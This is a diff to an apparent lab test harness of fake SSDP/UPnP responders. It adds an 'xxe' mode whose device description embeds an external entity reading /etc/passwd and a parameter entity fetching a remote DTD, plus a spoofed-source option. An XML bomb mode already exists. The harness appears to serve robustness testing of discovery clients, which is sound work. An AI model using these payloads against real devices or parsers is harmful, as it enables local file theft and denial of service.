@@ -25,7 +25,9 @@ Options (all optional):
                   model_name, model_number, serial, description_path}: more root
                   devices behind the same address, each with its own LOCATION
   mode            the description: "normal" | "malformed" (cut-off XML) |
-                  "xml-bomb" (billion laughs DTD) | "oversized" (> 256 KiB) |
+                  "xml-bomb" (billion laughs DTD) | "xxe" (external entities: a
+                  file:// one in friendlyName, a parameter entity fetching a DTD
+                  from this host) | "oversized" (> 256 KiB) |
                   "endless" (an unending body, no Content-Length) | "slow"
                   (one byte every 0.5 s) | "redirect" (302 to ``redirect_to``)
   redirect_to     the Location of mode "redirect"
@@ -65,7 +67,16 @@ log = logging.getLogger("lab.responders")
 
 SSDP_GROUP = "239.255.255.250"
 DEFAULT_SERVER = "Linux/3.10, UPnP/1.0, Portable SDK for UPnP devices/1.6.18"
-DESCRIPTION_MODES = ("normal", "malformed", "xml-bomb", "oversized", "endless", "slow", "redirect")
+DESCRIPTION_MODES = (
+    "normal",
+    "malformed",
+    "xml-bomb",
+    "xxe",
+    "oversized",
+    "endless",
+    "slow",
+    "redirect",
+)
 REPLY_MODES = ("normal", "malformed", "oversized", "silent")
 _TEXT_FIELDS = (
     "manufacturer",
@@ -275,7 +286,9 @@ class SsdpResponder(DatagramResponder):
         if request is None or self.reply_mode == "silent":
             return None
         st, mx = request
-        ip = own_ip(self._probe, addr[0]) if self._probe is not None else "0.0.0.0"
+        ip = self.spoof_from or (
+            own_ip(self._probe, addr[0]) if self._probe is not None else "0.0.0.0"
+        )
         answers: list[bytes] = []
         for dev in self.roots:
             for target, usn in self._targets(dev):
@@ -289,10 +302,8 @@ class SsdpResponder(DatagramResponder):
         return None
 
     def _send_all(self, answers: list[bytes], addr: tuple[str, int]) -> None:
-        if self._transport is None or self._transport.is_closing():
-            return
         for payload in answers:
-            self._transport.sendto(payload, addr)
+            self.send(payload, addr)
 
     def build_reply(self, dev: Mapping[str, Any], st: str, usn: str, ip: str) -> bytes:
         if self.reply_mode == "malformed":
@@ -396,6 +407,16 @@ class SsdpResponder(DatagramResponder):
             body = text[: len(text) * 2 // 3].encode() + b"<manufacturer>\xff\xfe"
         elif self.mode == "xml-bomb":
             body = _BOMB.encode()
+        elif self.mode == "xxe":
+            text = description_xml(dev, ip, self.description_port)
+            dtd = (
+                '<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
+                f'<!ENTITY % remote SYSTEM "http://{ip}/xxe.dtd"> %remote;]>\n'
+            )
+            text = text.replace("\n", "\n" + dtd, 1).replace(
+                "<device>", "<device><friendlyName>&xxe;</friendlyName>", 1
+            )
+            body = text.encode()
         elif self.mode == "oversized":
             text = description_xml(dev, ip, self.description_port)
             body = text.replace("</root>", "<!-- " + "p" * 300_000 + " --></root>").encode()
